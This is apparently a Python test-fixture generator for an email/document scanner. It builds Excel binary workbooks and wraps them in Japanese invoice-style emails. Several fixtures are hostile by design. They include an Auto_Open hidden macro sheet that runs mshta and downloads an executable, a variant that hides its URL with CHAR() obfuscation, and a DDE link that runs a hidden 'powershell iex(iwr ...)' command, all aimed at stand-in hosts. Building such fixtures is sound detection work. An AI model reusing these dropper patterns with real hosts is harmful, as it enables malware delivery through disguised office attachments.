#!/usr/bin/env python3
"""make_xlsb.py - Excel binary workbooks (.xlsb) for the functional tests of
src/objects/documents/xlsb.c, and the mails that carry them.

    make_xlsb.py [OUTDIR]     (default: tests/functional/cases)

Writes xlsb_*.eml.  An .xlsb is an OOXML package whose parts are BIFF12
record streams ([MS-XLSB] 2.1.4: a 7-bit varint record type and size, then
the data).  The records written here are the ones Excel itself writes for
these features (the layout of each is in the comments); what a test needs
beyond them (styles, a worksheet's dimension ...) is left out, as mamori
does not read it.  No URL or host here exists (.example, .invalid).
Python standard library only; byte for byte reproducible.
"""

import os
import struct
import sys
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.join(HERE, "..", "..")
sys.path.insert(0, os.path.join(ROOT, "examples", "documents"))

import make_documents  # noqa: E402  (mail())

XLSB_CT = "application/vnd.ms-excel.sheet.binary.macroEnabled.12"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
R_MS = "http://schemas.microsoft.com/office/2006/relationships"


def varint(v, nmax):
    out = bytearray()
    for _ in range(nmax):
        b = v & 0x7F
        v >>= 7
        out.append(b | (0x80 if v else 0))
        if not v:
            return bytes(out)
    raise ValueError("too large")


def rec(rtype, data=b""):
    """One BIFF12 record."""
    return varint(rtype, 2) + varint(len(data), 4) + data


def wstr(s):
    """XLWideString: 32-bit count of UTF-16 units, then the units."""
    u = s.encode("utf-16-le")
    return struct.pack("<I", len(u) // 2) + u


# Ptg tokens ([MS-XLSB] 2.5.97), value class where it matters
def ptg_str(s):
    u = s.encode("utf-16-le")
    return b"\x17" + struct.pack("<H", len(u) // 2) + u


def ptg_int(v):
    return b"\x1e" + struct.pack("<H", v)


PTG_CONCAT = b"\x08"


def ptg_funcvar(argc, iftab):
    return b"\x42" + bytes([argc]) + struct.pack("<H", iftab)


EXEC, CALL, HALT, CHAR = 110, 150, 54, 111   # Ftab indexes
FORMULA = 0x8000 | 0x60                       # Cetab, as PtgFuncVar says


def ptg_func(iftab):
    """PtgFunc (value class): a function of fixed argument count."""
    return b"\x41" + struct.pack("<H", iftab)


def ptg_ref(row, col):
    """PtgRef (value class), BIFF12: a 4-byte row, a 2-byte column
    (absolute: no relative flags), both 0-based."""
    return b"\x44" + struct.pack("<IH", row, col)


def ptg_char_string(s):
    """s as CHAR(n)&CHAR(n)&... (the obfuscation of Emotet-era sheets)."""
    out = b""
    for i, ch in enumerate(s):
        out += ptg_int(ord(ch)) + ptg_func(CHAR)
        if i:
            out += PTG_CONCAT
    return out


def fmla_string_cell(col, rgce, cached=""):
    """BrtFmlaString (8): Cell (column, iStyleRef + flags), the cached
    string, grbitFlags, CellParsedFormula (cce, rgce, cb = 0)."""
    return rec(8, struct.pack("<II", col, 0) + wstr(cached) + struct.pack("<H", 0)
               + struct.pack("<I", len(rgce)) + rgce + struct.pack("<I", 0))


def fmla_bool_cell(col, rgce):
    """BrtFmlaBool (10)."""
    return rec(10, struct.pack("<II", col, 0) + b"\x01" + struct.pack("<H", 0)
               + struct.pack("<I", len(rgce)) + rgce + struct.pack("<I", 0))


def row(r):
    """BrtRowHdr (0): rw, then style, height, flags we leave zero."""
    return rec(0, struct.pack("<IIHHBBB", r, 0, 0, 0, 0, 0, 0) + struct.pack("<I", 0))


def bundle_sheet(state, tab, rid, name):
    """BrtBundleSh (156): hsState, iTabID, strRelID, strName."""
    return rec(156, struct.pack("<II", state, tab) + wstr(rid) + wstr(name))


def defined_name(name, builtin=True, ref=None):
    """BrtName (39): flags (fHidden, fBuiltin), chKey, itab, name, a
    NameParsedFormula (cce, rgce, cb: a PtgRef3d to ref = (row, col),
    ixti 0, or empty) and a null comment."""
    flags = 0x01 | (0x20 if builtin else 0)
    rgce = b"\x3a" + struct.pack("<HIH", 0, *ref) if ref else b""
    return rec(39, struct.pack("<IBI", flags, 0, 0xFFFFFFFF) + wstr(name)
               + struct.pack("<I", len(rgce)) + rgce + struct.pack("<I", 0)
               + struct.pack("<I", 0xFFFFFFFF))


def workbook_bin(sheets, names, auto_ref=None):
    """BrtBeginBook (131), BrtBeginBundleShs (143), the sheets,
    BrtEndBundleShs (144), the names, BrtEndBook (132)."""
    out = rec(131) + rec(143)
    for s in sheets:
        out += bundle_sheet(*s)
    out += rec(144)
    for n in names:
        out += defined_name(n, ref=auto_ref)
    return out + rec(132)


def sheet_bin(rows):
    """BrtBeginSheet (129), BrtBeginSheetData (145), rows of cells,
    BrtEndSheetData (146), BrtEndSheet (130)."""
    out = rec(129) + rec(145)
    for r, cells in rows:
        out += row(r) + b"".join(cells)
    return out + rec(146) + rec(130)


def supbook_dde(service, topic):
    """BrtBeginSupBook (360) with sbt 1 (DDE): the service and topic,
    then BrtEndSupBook (362)."""
    return rec(360, struct.pack("<H", 1) + wstr(service) + wstr(topic)) + rec(362)


def package(parts, rels):
    """The ZIP: [Content_Types].xml, the package and workbook relationships
    (rels: (id, type URL, target)), and the binary parts."""
    ct = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
          '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
          '<Default Extension="bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/>'
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
          '<Override PartName="/xl/workbook.bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/>'
          '</Types>')
    root = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{R}/officeDocument" Target="xl/workbook.bin"/>'
            '</Relationships>')
    wb = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
          '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
          + "".join(f'<Relationship Id="{i}" Type="{t}" Target="{g}"/>' for i, t, g in rels)
          + '</Relationships>')
    import io
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        def put(name, data):
            zi = zipfile.ZipInfo(name, (2026, 12, 8, 9, 0, 0))
            zi.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(zi, data)
        put("[Content_Types].xml", ct)
        put("_rels/.rels", root)
        put("xl/_rels/workbook.bin.rels", wb)
        for name, data in parts:
            put(name, data)
    return buf.getvalue()


def xlm_dropper():
    """A very hidden macro sheet started by Auto_Open: EXEC of a command
    joined from two strings, CALL of URLDownloadToFileA, HALT."""
    url = "http://xlsb-drop.example/q/inv.exe"
    cells = [
        (0, [fmla_bool_cell(0, ptg_str("cmd /c mshta ") + ptg_str("http://xlsb-drop.example/q/a.hta")
                            + PTG_CONCAT + ptg_funcvar(1, EXEC))]),
        (1, [fmla_bool_cell(0, ptg_str("urlmon") + ptg_str("URLDownloadToFileA")
                            + ptg_str("JJCCJJ") + ptg_int(0) + ptg_str(url)
                            + ptg_str("C:\\Users\\Public\\inv.exe") + ptg_int(0) + ptg_int(0)
                            + ptg_funcvar(8, CALL))]),
        (2, [fmla_bool_cell(0, ptg_funcvar(0, HALT))]),
    ]
    sheets = [(0, 1, "rId1", "Sheet1"), (2, 2, "rId2", "Macro1")]
    parts = [("xl/workbook.bin", workbook_bin(sheets, ["Auto_Open"])),
             ("xl/worksheets/sheet1.bin", sheet_bin([])),
             ("xl/macrosheets/sheet1.bin", sheet_bin(cells))]
    rels = [("rId1", f"{R}/worksheet", "worksheets/sheet1.bin"),
            ("rId2", f"{R_MS}/xlMacrosheet", "macrosheets/sheet1.bin")]
    return package(parts, rels)


def xlm_obfuscated():
    """A macro sheet that writes its URL (scheme and host as CHAR() codes,
    the path "/p.hta" plain) with FORMULA into A3, then EXECs mshta with
    A3, started at A1 by Auto_Open."""
    url = "http://xlsb-obf.example/p.hta"
    cells = [
        (0, [fmla_bool_cell(0, ptg_char_string(url[:-6]) + ptg_str(url[-6:]) + PTG_CONCAT
                            + ptg_ref(2, 0) + ptg_funcvar(2, FORMULA))]),
        (1, [fmla_bool_cell(0, ptg_str("mshta ") + ptg_ref(2, 0) + PTG_CONCAT
                            + ptg_funcvar(1, EXEC))]),
        (3, [fmla_bool_cell(0, ptg_funcvar(0, HALT))]),
    ]
    sheets = [(0, 1, "rId1", "Sheet1"), (1, 2, "rId2", "Macro1")]
    parts = [("xl/workbook.bin", workbook_bin(sheets, ["Auto_Open"], auto_ref=(0, 0))),
             ("xl/worksheets/sheet1.bin", sheet_bin([])),
             ("xl/macrosheets/sheet1.bin", sheet_bin(cells))]
    rels = [("rId1", f"{R}/worksheet", "worksheets/sheet1.bin"),
            ("rId2", f"{R_MS}/xlMacrosheet", "macrosheets/sheet1.bin")]
    return package(parts, rels)


def dde_link():
    """An external link that is a DDE link to cmd."""
    sheets = [(0, 1, "rId1", "Sheet1")]
    parts = [("xl/workbook.bin", workbook_bin(sheets, [])),
             ("xl/worksheets/sheet1.bin", sheet_bin([])),
             ("xl/externalLinks/externalLink1.bin",
              supbook_dde("cmd", "/c powershell -nop -w hidden -c iex(iwr http://dde-xlsb.invalid/p)"))]
    rels = [("rId1", f"{R}/worksheet", "worksheets/sheet1.bin"),
            ("rId2", f"{R}/externalLink", "externalLinks/externalLink1.bin")]
    return package(parts, rels)


def clean():
    """A plain workbook with a formula cell that adds numbers."""
    cells = [(0, [fmla_bool_cell(0, ptg_int(1) + ptg_int(2) + b"\x03")])]
    sheets = [(0, 1, "rId1", "売上")]
    parts = [("xl/workbook.bin", workbook_bin(sheets, [])),
             ("xl/worksheets/sheet1.bin", sheet_bin(cells))]
    rels = [("rId1", f"{R}/worksheet", "worksheets/sheet1.bin")]
    return package(parts, rels)


def damaged():
    """The dropper with its workbook.bin cut inside the Auto_Open name's
    record: the sheets before it are read, the cut is DOCUMENT_MALFORMED."""
    sheets = [(0, 1, "rId1", "Sheet1"), (2, 2, "rId2", "Macro1")]
    wb = workbook_bin(sheets, ["Auto_Open"])
    cut = wb.index(defined_name("Auto_Open")) + 6
    cells = [(0, [fmla_bool_cell(0, ptg_str("calc.exe") + ptg_funcvar(1, EXEC))])]
    parts = [("xl/workbook.bin", wb[:cut]),
             ("xl/macrosheets/sheet1.bin", sheet_bin(cells))]
    rels = [("rId2", f"{R_MS}/xlMacrosheet", "macrosheets/sheet1.bin")]
    return package(parts, rels)


def main():
    out = sys.argv[1] if len(sys.argv) > 1 else os.path.join(ROOT, "tests", "functional", "cases")
    body = "お世話になっております。\n資料をお送りします。ご確認ください。\n"
    for name, fname, data in [("xlsb_xlm_dropper", "見積書_1208.xlsb", xlm_dropper()),
                              ("xlsb_dde_link", "集計_1208.xlsb", dde_link()),
                              ("xlsb_clean", "売上_2026.xlsb", clean()),
                              ("xlsb_xlm_obfuscated", "請求明細_1208.xlsb", xlm_obfuscated()),
                              ("xlsb_damaged", "見積書_1208.xlsb", damaged())]:
        make_documents.mail(os.path.join(out, name + ".eml"), "【ご確認】資料送付", body,
                            fname, XLSB_CT, data)


if __name__ == "__main__":
    main()
